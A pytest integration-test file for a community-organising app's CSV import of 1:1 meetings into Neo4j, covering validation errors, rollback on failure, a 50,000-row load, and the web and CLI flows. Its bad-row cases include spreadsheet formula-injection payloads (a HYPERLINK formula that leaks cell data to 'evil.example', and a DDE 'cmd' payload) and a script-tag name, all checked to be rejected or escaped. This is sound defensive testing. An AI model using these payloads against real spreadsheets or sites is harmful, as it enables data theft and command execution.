"""Importing 1:1s from a CSV: the template, the preview, every kind of bad input reported by row
and column, all or nothing (a bad row, a failure midway, Neo4j going away), 50,000 rows, the web
flow and `mapper import`; against the real Neo4j."""
from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import threading
import time
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner

from mapper.organising import csv_import as imp
from mapper.organising import csv_writing as writing
from mapper.config import Neo4jTarget
from mapper.db.store import DatabaseUnavailable, Store

from tests.conftest import csrf_token_from
from tests.integration.test_people_data import counts, load_small

HEADER = ",".join(imp.COLUMNS)


@pytest.fixture()
def small(empty_store):
    return load_small(empty_store)


def row(**cells) -> str:
    base = {"date": "2025-03-01", "organiser_id": "p-001", "person_name": "New Person", "person_area": "Lewisham",
            "themes": "Housing", "consent_recorded": "yes"}
    base.update(cells)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([base.get(c, "") for c in imp.COLUMNS])
    return out.getvalue()


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return (header + "\n" + "".join(rows)).encode("utf-8")


def problems(plan) -> set[tuple[int, str]]:
    return {(p.row, p.column) for p in plan.errors}


def test_the_template_previews_matches_and_creates(small):
    plan = imp.preview(small, imp.template().encode("utf-8"))
    assert plan.ok, plan.errors
    assert len(plan.meetings) == 2
    assert plan.matched == {"p-001": "Amina Yusuf", "p-002": "Grace Adeyemi"}   # by name and area, by email
    assert [p["props"]["name"] for p in plan.new_people] == ["Sam Okoye"]       # the Sam Okoye known is in Southwark
    imported, result = writing.import_file(small, imp.template().encode("utf-8"))
    assert result["one_to_ones"] == 2 and result["people_created"] == 1 and result["people_matched"] == 2
    assert imported.matched == plan.matched and len(imported.meetings) == 2
    assert counts(small) == (5, 4)


@pytest.mark.parametrize("bad, column, words", [
    (row(date="2999-01-01"), "date", "future"),
    (row(date="31/02/2025"), "date", "not a date"),
    (row(themes="Housing; Astrology"), "themes", "Unknown theme"),
    (row(person_id="p-001", person_name=""), "person_name", "same person"),
    (row(person_name=""), "person_name", "Give the person's name"),
    (row(person_name="x" * 121), "person_name", "too long"),
    (row(notes='=HYPERLINK("http://evil.example/?"&A1,"click")'), "notes", "formula"),
    (row(place="@SUM(1+1)"), "place", "formula"),
    (row(notes="-2+3+cmd|' /C calc'!A0"), "notes", "formula"),
    (row(person_id="p-nobody"), "person_id", "No person has the id"),
    (row(person_area="Atlantis"), "person_area", "Unknown area"),
    (row(consent_named="maybe"), "consent_named", "yes or no"),
    (row(person_email="not-an-email"), "person_email", "not an email"),
    (row(follow_up="Ring", follow_up_due="2025-01-01"), "follow_up_due", "before the 1:1"),
])
def test_each_bad_row_is_reported_with_row_and_column_and_nothing_is_written(small, bad, column, words):
    data = csv_bytes(row(person_name="Fine Person"), bad, row(person_name="Another Fine Person"))
    plan = imp.preview(small, data)
    assert not plan.ok and (3, column) in problems(plan), plan.errors
    assert words in " ".join(p.reason for p in plan.errors)
    assert plan.meetings == [] and plan.new_people == []
    imported, result = writing.import_file(small, data, batch=1)  # the good row before it is sent first
    assert result is None and problems(imported) == problems(plan)
    assert counts(small) == (4, 2)


def test_file_level_problems(small):
    wrong = imp.preview(small, csv_bytes(row(), header=HEADER.replace("person_name", "persons_name")))
    assert (1, "persons_name") in problems(wrong) and "did you mean 'person_name'" in wrong.errors[0].reason
    missing = imp.preview(small, b"organiser_name,person_name\nA,B\n")
    assert (1, "date") in problems(missing)
    latin1 = csv_bytes(row(), row(person_name="Ren\u00e9e Dupont")).decode("utf-8").encode("latin-1")
    encoding = imp.preview(small, latin1)
    assert not encoding.ok and encoding.errors[0].row == 3 and "UTF-8" in encoding.errors[0].reason
    assert "not a text CSV" in imp.preview(small, b"PK\x03\x04\x00\x00binary").errors[0].reason
    assert "empty" in imp.preview(small, b"").errors[0].reason
    assert "no rows" in imp.preview(small, (HEADER + "\n").encode()).errors[0].reason
    duplicated = imp.preview(small, csv_bytes(row(), row(person_name="Someone"), row()))
    assert (4, "") in problems(duplicated) and "repeats row 2" in duplicated.errors[0].reason
    too_many = imp.preview(small, csv_bytes(row() + "extra,cells,beyond,the,header" + "," * 20 + "\n"))
    assert not too_many.ok
    bom = imp.preview(small, b"\xef\xbb\xbf" + csv_bytes(row()))
    assert bom.ok


def test_html_and_script_in_names_are_kept_as_text(small, sign_in):
    name = '<script>alert("x")</script> Bola'
    plan, result = writing.import_file(small, csv_bytes(row(person_name=name)))
    assert result is not None
    person_id = plan.new_people[0]["id"]
    assert small.read_one("person_by_id", id=person_id)["name"] == name
    page = sign_in("organiser").get(f"/organisers/people/{person_id}").get_data(as_text=True)
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page


def test_people_are_matched_within_the_file_and_against_the_graph(small):
    data = csv_bytes(row(person_name="Tunde Bakare", person_email="tunde@example.org"),
                     row(person_name="T. Bakare", person_email="TUNDE@example.org", date="2025-03-02"),
                     row(organiser_id="", organiser_name="Kofi Asante", organiser_area="Southwark",
                         person_name="Sam Okoye", person_area="Southwark"),
                     row(person_name="Someone", person_phone="+44 7700 900002"))
    plan = imp.preview(small, data)
    assert plan.ok, plan.errors
    assert len(plan.new_people) == 1                          # Tunde once, by email
    assert set(plan.matched) == {"p-001", "p-004", "p-003", "p-002"}  # by id, name+area, name+area, phone


def test_a_failing_row_or_a_failure_midway_writes_nothing(small):
    rows = [row(person_name=f"Person {n}", person_email=f"p{n}@example.org") for n in range(120)]
    with pytest.raises(writing.ImportFailed):
        writing.import_file(small, csv_bytes(*rows), batch=50, fail_after=150)  # people written, then the 1:1s fail
    assert counts(small) == (4, 2)
    # a bad row at the end, after 120 rows were sent: all of them are rolled back
    plan, result = writing.import_file(small, csv_bytes(*rows, row(date="2999-01-01")), batch=50)
    assert result is None and problems(plan) == {(122, "date")}
    assert counts(small) == (4, 2)


def test_a_person_merged_away_once_the_file_is_checked_stops_the_whole_import(small):
    """Someone matched when the import read the graph is merged away (in another transaction)
    before the import links them: the 1:1 that would name them cannot be written, so nothing is."""
    rows = [row(person_name=f"Person {n}", person_email=f"p{n}@example.org") for n in range(120)]

    def merge_first(done, total):
        if done == 0:
            small.write("merge_people", keep="p-002", drop="p-003", types=["ONE_TO_ONE"], roles=[])

    with pytest.raises(writing.ImportFailed, match="no longer in the graph"):
        writing.import_file(small, csv_bytes(*rows, row(person_id="p-003")), progress=merge_first, batch=50)
    assert counts(small) == (3, 2)


class CuttableProxy:
    """A TCP proxy in front of Neo4j's Bolt port that can be cut, as a network or server failure."""

    def __init__(self, host: str, port: int):
        self.upstream = (host, port)
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(16)
        self.port = self.listener.getsockname()[1]
        self.sockets: list[socket.socket] = []
        self.cut_now = False
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while not self.cut_now:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            if self.cut_now:
                client.close()
                return
            server = socket.create_connection(self.upstream)
            self.sockets += [client, server]
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(src, dst):
        try:
            while chunk := src.recv(65536):
                dst.sendall(chunk)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def cut(self):
        self.cut_now = True
        try:
            self.listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.listener.close()
        for s in self.sockets:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass


def test_neo4j_going_away_midway_leaves_nothing_half_written(small, neo4j_target):
    host = urlsplit(neo4j_target.uri).hostname
    proxy = CuttableProxy(host, urlsplit(neo4j_target.uri).port)
    through = Store(Neo4jTarget(f"bolt://127.0.0.1:{proxy.port}", neo4j_target.user, neo4j_target.password,
                                external=True), retry_seconds=1.0)
    rows = [row(person_name=f"Person {n}", person_email=f"p{n}@example.org") for n in range(3000)]
    seen = []

    def progress(done, total):
        seen.append(done)
        if len(seen) == 2:
            proxy.cut()

    try:
        with pytest.raises(DatabaseUnavailable):
            writing.import_file(through, csv_bytes(*rows), progress=progress, batch=1000)
    finally:
        through.close()
    assert len(seen) == 2
    assert counts(small) == (4, 2)


def test_fifty_thousand_rows_are_checked_and_written_with_progress(small):
    lines = [row(person_name=f"Resident {n}", person_email=f"r{n}@example.org",
                 date=(dt.date(2024, 1, 1) + dt.timedelta(days=n % 300)).isoformat()) for n in range(50_000)]
    data = csv_bytes(*lines)
    began = time.perf_counter()
    checked = []
    plan = imp.preview(small, data, progress=checked.append)
    assert plan.ok and len(plan.meetings) == 50_000 and len(plan.new_people) == 50_000
    assert checked == ["checked 20,000 rows", "checked 40,000 rows"]
    written = []
    plan, result = writing.import_file(small, data, progress=lambda done, total: written.append((done, total)))
    assert written[0] == (0, 50_000) and written[-1] == (50_000, 50_000)
    assert [done for done, _ in written] == list(range(0, 50_001, writing.BATCH)) + [50_000]
    assert result["one_to_ones"] == 50_000 and result["people_created"] == 50_000
    assert counts(small) == (50_004, 50_002)
    assert time.perf_counter() - began < 90


def _wait_for(client, token):
    for _ in range(200):
        job = client.get(f"/organisers/import/{token}/status").get_json()
        if job["state"] in ("done", "failed"):
            return job
        time.sleep(0.1)
    raise AssertionError("the import did not finish")


def test_web_import_preview_confirm_and_progress(small, sign_in):
    client = sign_in("organiser")
    template = client.get("/organisers/import/template.csv")
    assert template.status_code == 200 and template.mimetype == "text/csv"
    assert template.get_data(as_text=True).splitlines()[0] == HEADER
    page = client.get("/organisers/import").get_data(as_text=True)
    token = csrf_token_from(page)
    bad = client.post("/organisers/import", data={"csrf_token": token, "file": (io.BytesIO(csv_bytes(
        row(), row(date="2999-01-01"), row(person_name="<b>Bold</b>", themes="Astrology"))), "bad.csv")},
        content_type="multipart/form-data")
    assert bad.status_code == 422
    html = bad.get_data(as_text=True)
    assert "2 problems in bad.csv: nothing was written" in html and "<td>3</td><td>date</td>" in html
    assert "<td>4</td><td>themes</td>" in html and "confirm-import" not in html
    good = client.post("/organisers/import", data={"csrf_token": token, "file": (io.BytesIO(
        imp.template().encode()), "good.csv")}, content_type="multipart/form-data")
    html = good.get_data(as_text=True)
    assert good.status_code == 200 and "people to be created" in html and "Sam Okoye" in html
    assert counts(small) == (4, 2)                               # nothing until confirmed
    action = html.split('action="/organisers/import/')[1].split("/confirm")[0]
    confirm = client.post(f"/organisers/import/{action}/confirm", data={"csrf_token": token})
    assert confirm.status_code == 302
    job = _wait_for(client, action)
    assert job["state"] == "done" and job["result"]["one_to_ones"] == 2, job
    assert counts(small) == (5, 4)
    again = client.post(f"/organisers/import/{action}/confirm", data={"csrf_token": token})
    assert again.status_code == 404                              # a file is imported once
    assert counts(small) == (5, 4)


def test_cli_import(small, neo4j_target, monkeypatch, tmp_path):
    from mapper.cli.base import main

    for key, value in (("NEO4J_URI", neo4j_target.uri), ("NEO4J_USER", neo4j_target.user),
                       ("NEO4J_PASSWORD", neo4j_target.password)):
        monkeypatch.setenv(key, value)
    runner = CliRunner()
    template = runner.invoke(main, ["import", "--template"])
    assert template.exit_code == 0 and template.output.splitlines()[0] == HEADER
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes(row(), row(date="2999-01-01")))
    result = runner.invoke(main, ["import", str(bad), "--yes"])
    assert result.exit_code != 0 and "row 3, date: The date cannot be in the future." in result.output
    good = tmp_path / "good.csv"
    good.write_text(template.output)
    refused = runner.invoke(main, ["import", str(good)], input="n\n")
    assert refused.exit_code != 0 and counts(small) == (4, 2)
    result = runner.invoke(main, ["import", str(good), "--yes"])
    assert result.exit_code == 0 and "Imported 2 1:1s and created 1 people" in result.output, result.output
    assert counts(small) == (5, 4)


def test_the_bench_runs_at_a_small_size_and_cleans_up(small):
    from bench import organisers as bench_organisers

    said = []
    result = bench_organisers.run(small, said.append, rows=300, people_count=150, baseline_rows=20,
                                  search_people=400, searches=20)
    assert result["import"]["rows"] == 300 and result["import"]["people_created"] == 150
    assert result["import"]["rows_per_second_with_checks"] > 0 and result["search"]["people"] >= 400
    assert result["import"]["preview_seconds"] > 0
    assert any("row-by-row baseline" in line for line in said)
    assert [line.split(":")[0] for line in said if "the import checked again and wrote" in line] == [
        "organisers (first import)", "organisers (timed 1 of 3)", "organisers (timed 2 of 3)",
        "organisers (timed 3 of 3)"]  # the first on this Neo4j, then three whose median is the figure
    assert len(result["import"]["timed_rows_per_second"]) == 3
    assert sorted(result["import"]["timed_rows_per_second"])[1] == result["import"]["rows_per_second_with_checks"]
    assert result["import"]["first_rows_per_second_with_checks"] > 0
    assert counts(small) == (4, 2)
